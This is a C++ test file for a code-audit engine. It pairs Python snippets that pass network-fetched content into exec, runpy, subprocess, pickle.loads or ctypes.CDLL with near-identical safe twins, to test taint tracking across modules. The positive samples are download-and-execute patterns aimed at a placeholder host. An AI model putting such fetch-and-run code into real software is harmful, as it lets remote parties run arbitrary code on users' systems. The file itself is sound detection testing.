#include "trust/audit/engine/test_programs.h"

// Values that go from one module to another, and modules that are made of values.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"OtherModule", R"py(
--- main.py
import net
exec(net.fetch())  # to
--- net.py
import requests
def fetch():
    return requests.get("https://a.example").text  # from)py",
     R"py(
--- main.py
import net
exec(net.local())
--- net.py
import requests
def fetch():
    return requests.get("https://a.example").text
def local():
    return "1")py"},
    {"BothWays", R"py(
--- runner.py
def run(code):
    exec(code)  # to
--- zz_main.py
import requests
from runner import run
run(requests.get("https://a.example").text)  # from)py",
     R"py(
--- runner.py
def run(code):
    print(code)
--- zz_main.py
import requests
from runner import run
run(requests.get("https://a.example").text))py"},
    {"Package", R"py(
--- pkg/__init__.py
from .net import fetch
--- pkg/net.py
import requests
def fetch():
    return requests.get("https://a.example").text  # from
--- pkg/run.py
from pkg import fetch
exec(fetch())  # to)py",
     R"py(
--- pkg/__init__.py
from .net import size
--- pkg/net.py
import requests
def size():
    return len(requests.get("https://a.example").text)
--- pkg/run.py
from pkg import size
exec(str(size())))py"},
    {"Relative", R"py(
--- pkg/__init__.py
--- pkg/a/__init__.py
--- pkg/a/run.py
from ..b import net
from ..b.net import fetch as load
exec(net.fetch())  # to
exec(load())  # to
--- pkg/b/__init__.py
--- pkg/b/net.py
import requests
def fetch():
    return requests.get("https://a.example").text  # from)py",
     R"py(
--- pkg/__init__.py
--- pkg/a/__init__.py
--- pkg/a/run.py
from ..b import net
exec(net.fetch())
--- pkg/b/__init__.py
--- pkg/b/net.py
import requests
def fetch():
    requests.get("https://a.example").text
    return "1")py"},
    {"Dotted", R"py(
--- pkg/__init__.py
--- pkg/net.py
import requests
page = requests.get("https://a.example").text  # from
--- pkg/run.py
import pkg.net
import pkg.net as net
exec(pkg.net.page)  # to
exec(net.page)  # to)py",
     R"py(
--- pkg/__init__.py
--- pkg/net.py
import requests
page = requests.get("https://a.example").text
size = len(page)
--- pkg/run.py
import pkg.net
exec(str(pkg.net.size)))py"},
    {"Cycle", R"py(
--- a.py
import b
def fetch():
    return b.page()
def run():
    exec(fetch())  # to
--- b.py
import a
import requests
def page():
    return requests.get("https://a.example").text  # from)py",
     R"py(
--- a.py
import b
def fetch():
    return b.page()
def run():
    exec(fetch())
--- b.py
import a
import requests
def page():
    requests.get("https://a.example").text
    return "1")py"},
    {"CycleFrom", R"py(
--- pkg/__init__.py
--- pkg/a.py
from .b import page
def run():
    exec(page())  # to
--- pkg/b.py
import requests
def page():
    from .a import run
    return requests.get("https://a.example").text  # from)py",
     R"py(
--- pkg/__init__.py
--- pkg/a.py
from .b import page
def run():
    exec(page())
--- pkg/b.py
import requests
def page():
    from .a import run
    return str(len(requests.get("https://a.example").text)))py"},
    {"ModuleIsWritten", R"py(
--- config.py
code = "1"
--- main.py
import config, requests
config.code = requests.get("https://a.example").text  # from
exec(config.code)  # to)py",
     R"py(
--- config.py
code = "1"
page = "2"
--- main.py
import config, requests
config.page = requests.get("https://a.example").text
exec(config.code))py"},
    {"ImportlibOfOwn", R"py(
--- main.py
import importlib
net = importlib.import_module("net")
exec(net.fetch())  # to
--- net.py
import requests
def fetch():
    return requests.get("https://a.example").text  # from)py",
     R"py(
--- main.py
import importlib
net = importlib.import_module("net")
exec(net.size())
--- net.py
import requests
def size():
    return str(len(requests.get("https://a.example").text)))py"},
    {"ClassOfAnother", R"py(
--- base.py
class Base:
    def run(self):
        exec(self.fetch())  # to
--- main.py
import requests
from base import Base
class Loader(Base):
    def fetch(self):
        return requests.get("https://a.example").text  # from
Loader().run())py",
     R"py(
--- base.py
class Base:
    def run(self):
        exec("1")
--- main.py
import requests
from base import Base
class Loader(Base):
    def fetch(self):
        return requests.get("https://a.example").text
Loader().run())py"},
    {"ReExported", R"py(
--- pkg/__init__.py
from pkg.inner import *
--- pkg/inner.py
from pkg.deep import fetch
--- pkg/deep.py
import requests
def fetch():
    return requests.get("https://a.example").text  # from
--- pkg/main.py
import pkg
exec(pkg.fetch())  # to)py",
     R"py(
--- pkg/__init__.py
from pkg.inner import *
--- pkg/inner.py
from pkg.deep import fetch
def fetch():
    return "1"
--- pkg/deep.py
import requests
def fetch():
    return requests.get("https://a.example").text
--- pkg/main.py
import pkg
exec(pkg.fetch()))py"},
    {"ExecNamespace", R"py(
import requests
space = {}
exec(requests.get("https://a.example").text, space)  # to # from
exec(space["code"])  # to)py",
     R"py(
import requests
space = {}
requests.get("https://a.example")
exec("code = '1'", space)
exec(space["code"]))py"},
    {"ModuleType", R"py(
import types, requests
module = types.ModuleType("remote")
exec(requests.get("https://a.example").text, module.__dict__)  # to # from)py",
     R"py(
import types, requests
module = types.ModuleType("remote")
module.page = requests.get("https://a.example").text
exec("x = 1", module.__dict__))py"},
    {"WrittenThenRun", R"py(
import runpy, requests
with open("/tmp/a.py", "w") as out:
    out.write(requests.get("https://a.example").text)  # from
runpy.run_path("/tmp/a.py")  # to)py",
     R"py(
import runpy, requests
with open("/tmp/a.txt", "w") as out:
    out.write(requests.get("https://a.example").text)
runpy.run_path("/tmp/b.py"))py"},
    {"WrittenThenStarted", R"py(
import os, subprocess, tempfile, requests
path = os.path.join(tempfile.gettempdir(), "a.sh")
with open(path, "wb") as out:
    out.write(requests.get("https://a.example").content)  # from
subprocess.run(["sh", path])  # to)py",
     R"py(
import os, subprocess, tempfile, requests
path = os.path.join(tempfile.gettempdir(), "a.sh")
with open(path + ".log", "wb") as out:
    out.write(requests.get("https://a.example").content)
subprocess.run(["sh", "/opt/run.sh"]))py"},
    {"WrittenThenRead", R"py(
import pathlib, requests
place = pathlib.Path("/tmp/a.py")
place.write_text(requests.get("https://a.example").text)  # from
exec(place.read_text())  # to)py",
     R"py(
import pathlib, requests
place = pathlib.Path("/tmp/a.txt")
place.write_text(requests.get("https://a.example").text)
exec(pathlib.Path("/opt/b.py").name))py"},
    {"Unpickled", R"py(
import pickle, requests
plugin = pickle.loads(requests.get("https://a.example").content)  # to # from)py",
     R"py(
import pickle, requests
page = requests.get("https://a.example").content
plugin = pickle.loads(pickle.dumps([1])))py"},
    {"Native", R"py(
import ctypes, urllib.request
urllib.request.urlretrieve("https://a.example/a.so", "/tmp/a.so")  # from
ctypes.CDLL("/tmp/a.so")  # to)py",
     R"py(
import ctypes, urllib.request
urllib.request.urlretrieve("https://a.example/a.txt", "/tmp/a.txt")
ctypes.CDLL("/usr/lib/libm.so"))py"},
};

// The module that was not looked at to its end is named, and not the one that comes next.
TEST(Exhausted, IsTheModuleThatTookTooLong) {
  AuditLimits limits;
  limits.max_steps = 100;
  std::string program = "--- long.py\ndef run(x):\n";
  for (int i = 0; i < 100; ++i) program += "    x = [x, x]\n";
  program += "import short\n--- short.py\ndef run(x):\n    return x\n";
  const Analysis analysis = analysis_of(program, limits);
  ASSERT_EQ(analysis.modules.size(), 2U);
  EXPECT_TRUE(analysis.modules[0].exhausted);
  EXPECT_FALSE(analysis.modules[1].exhausted);
}

INSTANTIATE_TEST_SUITE_P(Modules, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
